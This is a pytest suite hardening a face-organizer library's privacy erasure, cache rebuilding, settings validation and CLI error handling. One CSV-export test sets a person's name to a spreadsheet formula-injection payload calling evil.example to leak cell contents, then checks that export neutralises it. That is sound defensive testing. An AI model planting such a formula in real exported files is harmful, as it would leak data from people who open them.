"""Issue 15: privacy, cache, settings and CLI-error hardening. Each test attacks a real library (a handful of
../shared/faces photos imported once through the real pipeline) the way the report did."""

from __future__ import annotations

import csv
import gc
import io
import json
import os
import shutil
import sqlite3
import subprocess
import threading
from pathlib import Path

import pytest

from faceorganizer import privacy
from faceorganizer.cli import main
from faceorganizer.errors import FaceOrganizerError, LibraryError, explain_environment_error
from faceorganizer.library import Library
from faceorganizer.search.service import INDEX_FILE

PEOPLE = {"obama": 3, "biden": 3, "angelina_jolie": 3}


@pytest.fixture(scope="module")
def photos(shared_faces: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hardening-photos")
    for person, n in PEOPLE.items():
        (folder / person).mkdir()
        for src in sorted((shared_faces / "identities" / person).glob("*.jpg"))[:n]:
            shutil.copy2(src, folder / person / src.name)
    return folder


@pytest.fixture(scope="module")
def library_dir(photos: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hardening-lib") / "lib"
    with Library.open(folder) as lib:
        for _ in lib.import_job([str(photos)]).run():
            pass
        assert len(lib.people()) >= 3
    return folder


@pytest.fixture()
def lib_dir(library_dir: Path, tmp_path: Path) -> Path:
    dest = tmp_path / "lib"
    shutil.copytree(library_dir, dest)
    return dest


@pytest.fixture()
def lib(lib_dir: Path):
    library = Library.open(lib_dir)
    yield library
    library.close()


def cli(capsys, *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def one_line_error(err: str) -> str:
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("faceorganizer: error: "), err
    assert "Traceback" not in err and "unexpected" not in err
    return lines[0]


def _db_bytes(folder: Path) -> bytes:
    return b"".join(p.read_bytes() for p in folder.glob("library.db*"))


def _two_people(lib: Library):
    people = sorted(lib.people(), key=lambda p: -p.face_count)
    return people[0], people[1]


# ---------------------------------------------------------------------------------------------- privacy
def test_item4_forget_after_merge_removes_the_merged_persons_names(lib):
    target, merged = _two_people(lib)
    lib.rename(merged.id, "Earlier Name")
    lib.rename(target.id, "Target Person")
    lib.merge(target.id, [merged.id])
    lib.forget_person(target.id)
    data = _db_bytes(lib.folder)
    assert b"Earlier Name" not in data and b"Target Person" not in data
    history = json.dumps([e.summary for e in lib.history()])
    assert "Earlier Name" not in history and "Target Person" not in history
    assert all(p.name not in ("Earlier Name", "Target Person") for p in lib.people())
    # Undo cannot resurrect them: whatever is left to undo concerns other people.
    try:
        lib.undo()
    except FaceOrganizerError:
        pass
    assert all(p.name not in ("Earlier Name", "Target Person") for p in lib.people())


def test_item5_forget_while_another_connection_reads_reports_honestly(lib, monkeypatch):
    monkeypatch.setattr(privacy, "SCRUB_WAIT_MS", 200)
    target, _ = _two_people(lib)
    lib.rename(target.id, "Reader Blocked")
    blobs = [r[0] for r in lib.db.execute(
        f"SELECT embedding FROM faces WHERE id IN ({','.join(map(str, target.face_ids))})").fetchall()]
    reader = sqlite3.connect(lib.db_path, isolation_level=None)
    reader.execute("BEGIN")
    reader.execute("SELECT COUNT(*) FROM faces").fetchone()  # holds a read snapshot, pins the WAL
    with pytest.raises(privacy.ScrubPendingError, match="another program .* has the library open"):
        lib.forget_person(target.id)
    assert all(p.id != target.id for p in lib.people())  # the rows are gone ...
    reader.execute("COMMIT")
    reader.close()
    lib.close()
    # ... and the next open of the library finishes erasing the bytes the reader kept in the WAL.
    with Library.open(lib.folder) as again:
        assert not again.db.execute("SELECT 1 FROM kv WHERE key = 'scrub_pending'").fetchone()
    data = _db_bytes(lib.folder)
    assert b"Reader Blocked" not in data and all(b[:64] not in data for b in blobs)


def test_item5_forget_without_other_readers_finishes_at_once(lib):
    target, _ = _two_people(lib)
    lib.rename(target.id, "Gone Now")
    lib.forget_person(target.id)
    assert b"Gone Now" not in _db_bytes(lib.folder)


# ---------------------------------------------------------------------------------------------- caches
def _search(lib: Library, face_id: int) -> list[tuple[int, float]]:
    return [(h.face_id, round(h.distance, 5)) for h in lib.search_face(face_id, top=10, calibrated=False)]


@pytest.mark.parametrize("damage", ["payload", "magic", "kind", "nprobe", "list", "truncate", "empty"])
def test_items6_10_damaged_index_cache_is_rebuilt_and_answers_right(lib_dir, damage):
    with Library.open(lib_dir) as lib:
        face = lib.faces()[0].id
        want = _search(lib, face)
    path = lib_dir / "cache" / INDEX_FILE
    data = bytearray(path.read_bytes())
    head_len = int.from_bytes(data[7:15], "little")
    header = json.loads(data[15:15 + head_len])
    if damage == "payload":  # the header stays intact: only a checksum can tell
        body = 15 + head_len + 64
        data[body:-1] = bytes(len(data) - 1 - body)
    elif damage == "magic":
        data[:5] = b"XXXXX"
    elif damage in ("kind", "nprobe", "list"):
        new = {"kind": dict(header, kind="bogus"), "nprobe": dict(header, nprobe=None),
               "list": list(header)}[damage]
        text = json.dumps(new).encode().ljust(head_len)[:head_len]
        data[15:15 + head_len] = text
    elif damage == "truncate":
        data = data[: len(data) // 2]
    else:
        data = bytearray()
    path.write_bytes(bytes(data))
    with Library.open(lib_dir) as lib:
        assert _search(lib, face) == want
    assert path.read_bytes()[:5] == b"FOIDX"  # rewritten


def test_item14_search_works_when_the_database_cannot_grow(lib):
    face = lib.faces()[0].id
    lib.db.execute("UPDATE faces SET density = NULL")
    lib.db.execute("DELETE FROM kv WHERE key = 'ida_anchor_fingerprint'")
    shutil.rmtree(lib.cache_dir)
    lib.cache_dir.mkdir()
    pages = lib.db.execute("PRAGMA page_count").fetchone()[0]
    lib.db.execute(f"PRAGMA max_page_count = {pages}")  # SQLite answers SQLITE_FULL as on a full disk
    with pytest.raises(sqlite3.OperationalError, match="full"):
        lib.db.execute("CREATE TABLE filler (x)")
        lib.db.execute("INSERT INTO filler VALUES (zeroblob(1000000))")
    hits = lib.search_face(face, top=5)
    assert hits and all(h.score is not None for h in hits)


def test_item14_disk_full_error_names_the_cause_and_fix():
    db = sqlite3.connect(":memory:")
    db.execute("PRAGMA max_page_count = 2")
    with pytest.raises(sqlite3.OperationalError) as info:
        db.execute("CREATE TABLE t (x)")
        db.execute("INSERT INTO t VALUES (zeroblob(100000))")
    message = explain_environment_error(info.value, "/photos/lib")
    assert message.startswith("disk full: free space on") and "/photos/lib" in message


def test_item11_cache_that_is_a_file_is_a_one_line_error(lib_dir, capsys):
    shutil.rmtree(lib_dir / "cache")
    (lib_dir / "cache").write_text("someone's file")
    with pytest.raises(LibraryError, match="is a file"):
        Library.open(lib_dir)
    code, _, err = cli(capsys, "status", "--library", str(lib_dir))
    assert code == 2 and "move or delete the file" in one_line_error(err)
    assert (lib_dir / "cache").read_text() == "someone's file"  # never deleted for the user


# ---------------------------------------------------------------------------------------------- export
def test_item8_csv_export_neutralises_formulas(lib, capsys, tmp_path):
    target, other = _two_people(lib)
    lib.rename(target.id, '=HYPERLINK("http://evil.example/?x="&A1,"click")')
    lib.rename(other.id, "-1+2")
    lib.close()
    out = tmp_path / "people.csv"
    code, _, err = cli(capsys, "export", "people", "--out", str(out), "--library", str(lib.folder))
    assert code == 0, err
    names = {row["name"] for row in csv.DictReader(io.StringIO(out.read_text()))}
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in names and "'-1+2" in names
    for row in csv.DictReader(io.StringIO(out.read_text())):
        assert not any(str(v).startswith(("=", "+", "@", "\t", "\r")) for v in row.values())


# ---------------------------------------------------------------------------------------------- settings
@pytest.mark.parametrize("content, key", [
    ('{"version": "abc"}', "version"), ('{"version": null}', "version"), ('{"min_face_size": 1e400}', "min_face_size"),
    ('{"min_face_size": 3}', "min_face_size"), ('{"cluster_threshold": "near"}', "cluster_threshold"),
    ('{"workers": 1000}', "workers"), ('{"write_xmp": "yes"}', "write_xmp"), ('{"device": 3}', "device"),
])
def test_items12_18_bad_settings_name_the_file_and_key(lib_dir, capsys, content, key):
    settings = Path(os.environ["FACEORGANIZER_CONFIG_DIR"]) / "settings.json"
    settings.parent.mkdir(parents=True, exist_ok=True)
    settings.write_text(content)
    try:
        code, _, err = cli(capsys, "status", "--library", str(lib_dir))
    finally:
        settings.unlink()
    line = one_line_error(err)
    assert code == 2 and "settings.json" in line and key in line


# ---------------------------------------------------------------------------------------------- CLI errors
def test_item15_search_refuses_folders_missing_files_and_pipes(lib_dir, tmp_path, capsys):
    fifo = tmp_path / "pipe.jpg"
    os.mkfifo(fifo)
    for target, words in [(tmp_path, "is a folder"), (tmp_path / "missing.jpg", "no such file"),
                          (fifo, "not a regular file")]:
        code, _, err = cli(capsys, "search", str(target), "--library", str(lib_dir))
        assert code == 2 and words in one_line_error(err)


def test_item16_huge_ids_are_ids_that_do_not_exist(lib_dir, capsys):
    code, _, err = cli(capsys, "move", "99999999999999999999", "--to", "1", "--library", str(lib_dir))
    assert code == 2 and "no face with id 99999999999999999999" in one_line_error(err)
    code, _, err = cli(capsys, "rename", "99999999999999999999", "X", "--library", str(lib_dir))
    assert code == 2 and "no person with id 99999999999999999999" in one_line_error(err)


def test_item20_top_below_one_and_unknown_people_are_refused(lib_dir, capsys):
    with Library.open(lib_dir) as lib:
        face = lib.faces()[0].id
    code, _, err = cli(capsys, "search", "--face-id", str(face), "--top", "-1", "--library", str(lib_dir))
    assert code == 2 and "--top must be at least 1" in one_line_error(err)
    code, out, err = cli(capsys, "photos", "--with", "9999", "--library", str(lib_dir))
    assert code == 2 and "no person with id 9999" in one_line_error(err) and not out


def _mount_tmpfs(folder: Path, size: str) -> bool:
    folder.mkdir(parents=True, exist_ok=True)
    return subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(folder)],
                          capture_output=True).returncode == 0


@pytest.fixture()
def small_disk(tmp_path):
    """A real 3 MB file system (tmpfs); skips where this user cannot mount one."""
    mnt = tmp_path / "disk"
    if os.geteuid() != 0 or not _mount_tmpfs(mnt, "3m"):
        pytest.skip("needs permission to mount a tmpfs")
    yield mnt
    gc.collect()
    subprocess.run(["umount", "-l", str(mnt)], capture_output=True)  # lazy: a leaked handle must not keep it


def test_item14_full_disk_import_names_cause_and_fix(small_disk, photos, capsys):
    lib = small_disk / "lib"
    code, _, err = cli(capsys, "status", "--library", str(lib))
    assert code == 0, err
    free = shutil.disk_usage(small_disk).free
    (small_disk / "filler").write_bytes(b"\0" * (free - 4096))
    code, _, err = cli(capsys, "import", str(photos), "--library", str(lib))
    assert code == 2 and one_line_error(err).startswith("faceorganizer: error: disk full: free space on")
    assert str(lib) in err


def test_item17_read_only_library_names_cause_and_fix(small_disk, capsys):
    lib = small_disk / "lib"
    code, _, err = cli(capsys, "status", "--library", str(lib))
    assert code == 0, err
    gc.collect()  # no file of the disk may stay open for the remount
    assert subprocess.run(["mount", "-o", "remount,ro", str(small_disk)]).returncode == 0
    try:
        for args in (["status"], ["people"], ["faces"]):
            code, _, err = cli(capsys, *args, "--library", str(lib))
            assert code == 2 and "is read-only: make it writable" in one_line_error(err)
    finally:
        subprocess.run(["mount", "-o", "remount,rw", str(small_disk)])


def test_item2_delete_face_data_during_an_import_stores_no_face_after_it(photos, tmp_path, monkeypatch):
    from faceorganizer.scan import importer

    # One photo a write batch, one worker: the switch lands after the first photos on any machine (batches
    # are otherwise cut by time, so a fast many-core machine may write most of this small set at once).
    monkeypatch.setattr(importer, "WRITE_BATCH_SECONDS", 0.0)
    folder = tmp_path / "lib"
    with Library.open(folder) as importing:
        job = importing.import_job([str(photos)], workers=1)
        steps = iter(job.run())
        for progress in steps:
            if progress.faces_found:  # the first batch of faces is stored: now delete everything
                done_before_switch = progress.photos_done
                break
        else:
            pytest.fail("the import stored no face")
        with Library.open(folder) as other:
            other.delete_all_face_data()
        for _ in steps:  # the import goes on listing photos
            pass
        assert importing.db.execute("SELECT COUNT(*) FROM faces").fetchone()[0] == 0
        assert importing.db.execute("SELECT COUNT(*) FROM face_chips").fetchone()[0] == 0
        assert not importing.recognition_enabled
        by_status = importing.stats().photos_by_status
        total = sum(1 for p in photos.rglob("*.jpg"))
        assert done_before_switch < total
        # the photos after the switch are listed, not analysed
        assert by_status.get("pending", 0) == total - done_before_switch
        assert importing.db.execute("SELECT COUNT(*) FROM photos WHERE faces_model IS NOT NULL").fetchone()[0] == 0


def test_item25_a_folder_reached_through_a_symlink_is_the_same_photos(library_dir, photos, tmp_path):
    dest = tmp_path / "lib"
    shutil.copytree(library_dir, dest)
    link_root = tmp_path / "link-to-photos"
    link_root.symlink_to(photos, target_is_directory=True)
    nested = tmp_path / "albums"
    nested.mkdir()
    (nested / "obama-again").symlink_to(photos / "obama", target_is_directory=True)
    with Library.open(dest) as lib:
        before = (lib.db.execute("SELECT COUNT(*) FROM photos").fetchone()[0],
                  lib.db.execute("SELECT COUNT(*) FROM faces").fetchone()[0])
        people = sorted(p.face_count for p in lib.people())
        for root in (link_root, nested, photos / "biden" / "..", photos):
            for _ in lib.import_job([str(root)]).run():
                pass
        after = (lib.db.execute("SELECT COUNT(*) FROM photos").fetchone()[0],
                 lib.db.execute("SELECT COUNT(*) FROM faces").fetchone()[0])
        assert after == before
        assert sorted(p.face_count for p in lib.people()) == people
        paths = [r[0] for r in lib.db.execute("SELECT path FROM photos")]
        assert all(str(link_root) not in p and str(nested) not in p for p in paths)
        # A folder filter given through the symlink finds the same photos as the real folder.
        through_link = lib.faces_where(f'folder="{link_root}/obama"')
        assert through_link and through_link == lib.faces_where(f'folder="{photos}/obama"')
        assert lib.faces_where(f'folder="{link_root}"') == lib.faces_where(f'folder="{photos}"')
